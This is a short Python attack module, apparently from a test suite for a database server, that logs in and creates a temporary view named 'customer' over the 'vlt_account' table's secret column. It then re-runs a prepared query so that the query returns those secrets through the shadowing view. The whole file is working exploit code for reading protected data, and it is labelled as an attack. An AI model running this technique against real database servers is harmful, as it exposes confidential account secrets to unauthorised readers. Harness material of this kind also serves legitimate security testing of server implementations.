"""Runs a prepared query, makes a temporary view that goes before its table, and runs it again."""

from attacks.frames import SYNC, ask, bind, execute, parse, whole
from attacks.talking import Server

WANTS = "read"
TIMES = 5


def attack(server: Server) -> bytes:
    run = bind(b"s") + execute()
    shadow = b"CREATE TEMP VIEW customer AS SELECT id, secret AS name FROM vlt_account"
    with server.login() as client:
        # Nothing of the round has to wait until it is read.
        ask(client, parse(shadow), SYNC)
        ask(client, parse(b"SELECT name FROM customer", b"s"), SYNC)
        return ask(client, run * TIMES, whole(shadow), run * TIMES, SYNC)
